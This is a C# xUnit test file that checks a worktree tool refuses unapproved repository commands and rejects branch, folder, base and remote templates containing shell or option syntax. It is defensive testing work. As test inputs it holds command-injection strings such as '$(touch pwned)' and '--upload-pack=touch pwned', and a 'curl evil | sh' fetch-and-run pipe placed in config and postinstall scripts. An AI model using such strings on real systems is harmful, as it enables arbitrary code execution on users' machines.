using WorktreeTools.Configuration;
using WorktreeTools.Core.Config;
using WorktreeTools.Core.Worktrees;
using WorktreeTools.Testing;
using WorktreeTools.Worktrees;
using Xunit;

namespace WorktreeTools.Core.Tests.Worktrees;

/// <summary>A cloned repository never runs code the user did not approve, and token values never become shell code.</summary>
public sealed class TrustTests
{
    private static IReadOnlyList<ConfiguredCommand> Pending(WorktreeFixture f) =>
        new TrustStore().Pending(f.Service.Config, RepositoryCommands.All(f.Service.Config, f.Repo.Root));

    private static void AssertNothingCreated(WorktreeFixture f, string issue)
    {
        Assert.DoesNotContain($"feature/issue-{issue}", f.Branches());
        Assert.False(Directory.Exists(Path.Combine(f.WorktreesRoot, $"issue-{issue}")));
        Assert.DoesNotContain(f.Registry.ForRepository(f.Repo.Root), r => r.Issue == issue);
        Assert.DoesNotContain("worktree " + Path.Combine(f.WorktreesRoot, $"issue-{issue}"), f.Repo.Git("worktree", "list", "--porcelain").Split('\n'));
    }

    [Fact]
    public void A_pulled_branch_template_cannot_inject_into_an_approved_command()
    {
        // The found case: install approved; a later pull changes only worktrees.branch.
        using var f = new WorktreeFixture("setup: { install: 'echo installing {branch}' }\n");
        f.Repo.Write(ConfigLoader.RepositoryFileName,
            "worktrees: { branch: 'feature/issue-{issue}$(touch${IFS}pwned)' }\nsetup: { install: 'echo installing {branch}' }\n");
        f.Repo.Commit("pull");

        Assert.Empty(Pending(f)); // the install's text did not change: nothing to approve...
        var ex = Assert.Throws<WorktreeToolsException>(() => f.Service.Create("2"));
        Assert.Equal("InvalidBranchName", ex.ErrorId); // ...and the branch is refused before anything runs
        Assert.Contains("feature/issue-2$(touch${IFS}pwned)", ex.Message);
        Assert.Empty(Directory.EnumerateFiles(f.Repo.Parent, "pwned", SearchOption.AllDirectories));
        AssertNothingCreated(f, "2");
    }

    [Fact]
    public void Token_values_with_spaces_and_shell_syntax_reach_the_install_as_data()
    {
        // A repository folder a user may well have: spaces, quotes, $( ) — it is part of {repo} and {worktree}.
        using var f = new WorktreeFixture("setup: { install: \"printf '%s|%s|%s\\\\n' {repo} {worktree} '{name}' > tokens.txt; ls {worktree} > listing.txt\" }\n",
            repoName: "my app $(touch pwned) 'q'");
        var w = f.Service.Create("3")!;
        Assert.Equal(WorktreeState.Ready, w.State);
        Assert.Equal($"my app $(touch pwned) 'q'|{w.Path}|issue-3\n", File.ReadAllText(Path.Combine(w.Path, "tokens.txt")));
        Assert.Contains("tokens.txt", File.ReadAllText(Path.Combine(w.Path, "listing.txt")));
        Assert.Empty(Directory.EnumerateFiles(f.Repo.Parent, "pwned", SearchOption.AllDirectories));
    }

    [Theory]
    [InlineData("feature/{issue}; touch pwned")]
    [InlineData("feature/$(touch pwned)-{issue}")]
    [InlineData("feature/`id`-{issue}")]
    [InlineData("feature/a'b-{issue}")]
    [InlineData("feature/a\"b-{issue}")]
    [InlineData("feature/a|b-{issue}")]
    [InlineData("feature/a&b-{issue}")]
    [InlineData("feature/<x>-{issue}")]
    [InlineData("feature/{issue}!")]
    [InlineData("feature/%PATH%-{issue}")]
    [InlineData("-f{issue}")]
    [InlineData("feature/-rf-{issue}")]
    [InlineData("feature/.hidden-{issue}")]
    [InlineData("feature//{issue}")]
    [InlineData("feature/{issue}.lock")]
    [InlineData("feature/a..b-{issue}")]
    public void A_branch_template_that_makes_a_dangerous_or_invalid_branch_is_refused_before_anything_is_created(string template)
    {
        using var f = new WorktreeFixture($"worktrees: {{ branch: '{template.Replace("'", "''")}' }}\n");
        var ex = Assert.Throws<WorktreeToolsException>(() => f.Service.Create("4", noInstall: true));
        Assert.Equal("InvalidBranchName", ex.ErrorId);
        Assert.Empty(Directory.EnumerateFiles(f.Repo.Parent, "pwned", SearchOption.AllDirectories));
        Assert.Equal("main", f.Branches());
        Assert.Empty(f.Registry.ForRepository(f.Repo.Root));
    }

    [Theory]
    [InlineData("../issue-{issue}")]
    [InlineData("a/{issue}")]
    [InlineData(".issue-{issue}")]
    [InlineData("-issue-{issue}")]
    [InlineData("issue-{issue}; touch pwned")]
    [InlineData("issue-$(id)-{issue}")]
    [InlineData("issue-{issue}\\u0007")]
    public void A_name_template_that_makes_a_dangerous_folder_is_refused(string template)
    {
        using var f = new WorktreeFixture($"worktrees: {{ name: \"{template}\" }}\n");
        var ex = Assert.Throws<WorktreeToolsException>(() => f.Service.Create("5", noInstall: true));
        Assert.Equal("InvalidWorktreeName", ex.ErrorId);
        Assert.Equal("main", f.Branches());
    }

    [Fact]
    public void A_base_or_remote_given_by_the_repository_file_or_by_the_user_is_never_shell_or_option_syntax()
    {
        using var f = new WorktreeFixture();
        Assert.Equal("InvalidBaseName", Assert.Throws<WorktreeToolsException>(() => f.Service.Create("6", baseBranch: "$(id)", noInstall: true)).ErrorId);
        Assert.Equal("InvalidBaseName", Assert.Throws<WorktreeToolsException>(() => f.Service.Create("6", baseBranch: "--upload-pack=touch pwned", noInstall: true)).ErrorId);
        Assert.Empty(f.Registry.ForRepository(f.Repo.Root));
        foreach (var yaml in new[] { "worktrees: { base: 'main;touch pwned' }", "worktrees: { remote: '--upload-pack=touch pwned' }" })
        {
            f.Repo.Write(ConfigLoader.RepositoryFileName, yaml + "\n");
            Assert.Equal("ConfigBadValue", Assert.Throws<ConfigurationException>(() => f.Service.Create("6", noInstall: true)).ErrorId);
        }
        Assert.Empty(Directory.EnumerateFiles(f.Repo.Parent, "pwned", SearchOption.AllDirectories));
    }

    [Fact]
    public void An_approval_is_for_the_key_and_the_text_together()
    {
        using var f = new WorktreeFixture("merge: { test: 'touch ran' }\n");
        f.Repo.Write(ConfigLoader.RepositoryFileName, "merge: { test: 'touch ran' }\nsetup: { install: 'touch ran' }\n");
        f.Repo.Commit("same text under another key");

        var pending = Assert.Single(Pending(f));
        Assert.Equal("setup.install", pending.Key);
        Assert.Equal("CommandNotApproved", Assert.Throws<WorktreeToolsException>(() => f.Service.Create("7")).ErrorId);
        AssertNothingCreated(f, "7");
    }

    [Fact]
    public void CommandNotApproved_comes_before_the_worktree_branch_and_lease_exist()
    {
        using var f = new WorktreeFixture("setup: { install: 'touch pwned' }\n", approve: false);
        var ex = Assert.Throws<WorktreeToolsException>(() => f.Service.Create("19"));
        Assert.Equal("CommandNotApproved", ex.ErrorId);
        Assert.Contains("Nothing was changed", ex.Message);
        AssertNothingCreated(f, "19");
        Assert.Empty(Directory.EnumerateFiles(f.Repo.Parent, "pwned", SearchOption.AllDirectories));
    }

    [Fact]
    public void A_changed_command_shows_what_it_was_before_approval()
    {
        using var f = new WorktreeFixture("setup: { install: 'echo v1' }\n");
        f.Repo.Write(ConfigLoader.RepositoryFileName, "setup: { install: 'echo v1; curl evil | sh' }\n");
        f.Repo.Commit("pull");
        var pending = Assert.Single(Pending(f));
        Assert.Equal("echo v1; curl evil | sh", pending.Text);
        Assert.Equal("echo v1", pending.Previous);
    }

    [Fact]
    public void A_detected_install_is_repository_code_approved_with_its_scripts_in_view()
    {
        using var f = new WorktreeFixture();
        f.Repo.Write("package.json", """{ "name": "app", "version": "1.0.0", "scripts": { "postinstall": "touch pwned", "dev": "node server.js" } }""");
        f.Repo.Write("package-lock.json", """{ "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": { "": { "name": "app", "version": "1.0.0" } } }""");
        f.Repo.Commit("node project");

        var ex = Assert.Throws<WorktreeToolsException>(() => f.Service.Create("8"));
        Assert.Equal("CommandNotApproved", ex.ErrorId);
        Assert.Contains("npm install", ex.Message);
        Assert.Contains("package.json: postinstall: touch pwned", ex.Message);
        AssertNothingCreated(f, "8");

        var pending = Pending(f);
        var install = Assert.Single(pending, c => c.Key == "setup.install");
        Assert.Equal(ConfigSource.Detected, install.Source);
        Assert.Equal(["package.json: postinstall: touch pwned"], install.Scripts);
        Assert.Equal(["package.json: dev: node server.js"], Assert.Single(pending, c => c.Key == "devServer.command").Scripts);

        new TrustStore().Approve(f.Service.Config, pending);
        var w = f.Service.Create("8")!;
        Assert.Equal(WorktreeState.Ready, w.State);
        Assert.True(File.Exists(Path.Combine(w.Path, "pwned"))); // npm ran the approved postinstall

        // The script changes on the base: the approval no longer covers it.
        f.Repo.Write("package.json", """{ "name": "app", "version": "1.0.0", "scripts": { "postinstall": "curl evil | sh" } }""");
        f.Repo.Commit("change postinstall");
        Assert.Equal("CommandNotApproved", Assert.Throws<WorktreeToolsException>(() => f.Service.Create("9")).ErrorId);
        AssertNothingCreated(f, "9");
    }

    [Fact]
    public void A_detected_dev_server_needs_approval_too()
    {
        using var f = new WorktreeFixture();
        f.Repo.Write("package.json", """{ "name": "app", "scripts": { "predev": "touch pwned", "dev": "node server.js" } }""");
        f.Repo.Commit("node project");
        var w = f.Service.Create("10", noInstall: true)!;
        var ex = Assert.Throws<WorktreeToolsException>(() => f.Service.StartDevServer("10", wait: false));
        Assert.Equal("CommandNotApproved", ex.ErrorId);
        Assert.Contains("package.json: predev: touch pwned", ex.Message);
        Assert.False(File.Exists(Path.Combine(w.Path, "pwned")));
        Assert.Empty(f.Service.DevServersOf(null));
    }

    [Fact]
    public void Trusting_a_repository_once_covers_every_command_now_and_after_changes_until_revoked()
    {
        using var f = new WorktreeFixture("setup: { install: 'echo one > one.txt' }\n", approve: false);
        var trust = new TrustStore();
        trust.TrustRepository(f.Service.Config);
        Assert.Empty(Pending(f));
        Assert.Equal(WorktreeState.Ready, f.Service.Create("11")!.State);

        f.Repo.Write(ConfigLoader.RepositoryFileName, "setup: { install: 'echo two > two.txt' }\n");
        f.Repo.Commit("changed");
        Assert.True(File.Exists(Path.Combine(f.Service.Create("12")!.Path, "two.txt")));

        Assert.Equal(1, trust.Revoke(f.Service.Config));
        Assert.Equal("CommandNotApproved", Assert.Throws<WorktreeToolsException>(() => f.Service.Create("13")).ErrorId);
    }

    [Fact]
    public void A_detected_lockfile_regeneration_in_a_merge_is_repository_code_too()
    {
        using var repo = new Merging.MergeRepo();
        repo.Repo.Write("package.json", """{ "name": "app", "version": "1.0.0", "scripts": { "postinstall": "touch pwned" } }""");
        repo.Repo.Write("package-lock.json", "{ \"lockfileVersion\": 3 }\n");
        repo.Repo.Commit("node project");
        repo.Git("push", "-q", "origin", "main");
        var a = repo.Issue("301", ("package-lock.json", "{ \"lockfileVersion\": 3, \"a\": 1 }\n"));
        var b = repo.Issue("302", ("package-lock.json", "{ \"lockfileVersion\": 3, \"b\": 1 }\n"));
        var config = Merging.MergeRepo.Config(repo.Root);
        var engine = new Core.Merging.MergeEngine(config, new SilentHost());
        Assert.Equal(WorktreeTools.Merging.MergeStatus.Merged, engine.Merge(repo.Options(), a).Status);
        var before = repo.Tip();

        var ex = Assert.Throws<WorktreeToolsException>(() => engine.Merge(repo.Options(), b));
        Assert.Equal("CommandNotApproved", ex.ErrorId);
        Assert.Contains("merge.lockfiles.regenerate", ex.Message);
        Assert.Contains("package.json: postinstall: touch pwned", ex.Message);
        Assert.Equal(before, repo.Tip());
        Assert.False(File.Exists(Path.Combine(Core.Merging.StagingWorktree.PathFor(repo.Root), "pwned")));

        var regenerate = Assert.Single(RepositoryCommands.All(config, repo.Root), c => c.Key == "merge.lockfiles.regenerate");
        Assert.Equal((ConfigSource.Detected, "npm install"), (regenerate.Source, regenerate.Text));
    }
}
